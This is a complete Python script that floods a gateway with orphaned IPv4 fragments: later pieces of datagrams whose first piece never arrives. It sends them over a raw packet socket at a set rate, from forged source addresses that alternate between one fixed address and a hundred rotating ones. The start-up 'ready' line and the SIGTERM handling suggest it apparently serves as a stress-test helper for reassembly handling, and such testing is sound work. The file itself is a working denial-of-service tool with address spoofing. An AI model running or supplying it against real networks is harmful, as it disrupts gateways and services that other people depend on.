"""fragment-flood.py DEVICE MAC ADDRESS RATE: later pieces of datagrams that have no first one, to a gateway's station and
address: every other one from a single source, the rest from a hundred. About RATE a second until SIGTERM, then says how
many it has sent."""
import signal
import socket
import struct
import sys
import time

AT_ONCE, LATER_OFFSET, MORE_FRAGMENTS, UDP = 50, 25, 0x2000, 17
PAYLOAD = bytes(range(200)) * 3


def checksum(header):
  total = sum(struct.unpack(f"!{len(header) // 2}H", header))
  total = (total >> 16) + (total & 0xFFFF)
  return ~(total + (total >> 16)) & 0xFFFF


def piece(number, source, destination):
  def header(check):
    return struct.pack(
      "!BBHHHBBH4s4s", 0x45, 0, 20 + len(PAYLOAD), number & 0xFFFF, MORE_FRAGMENTS | LATER_OFFSET, 64, UDP, check,
      source, destination)

  return header(checksum(header(0))) + PAYLOAD


def main():
  device, mac, address, rate = sys.argv[1:]
  link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
  link.bind((device, 0))
  ethernet = bytes.fromhex(mac.replace(":", "")) + bytes.fromhex("0200000001660800")
  destination = socket.inet_aton(address)
  ended = []
  signal.signal(signal.SIGTERM, lambda *_: ended.append(True))
  print("ready", flush=True)
  number = 0
  while not ended:
    for _ in range(AT_ONCE):
      last = 66 if number % 2 else 100 + number // 2 % 100
      link.send(ethernet + piece(number, bytes((203, 0, 113, last)), destination))
      number += 1
    time.sleep(AT_ONCE / float(rate))
  print(number)


main()
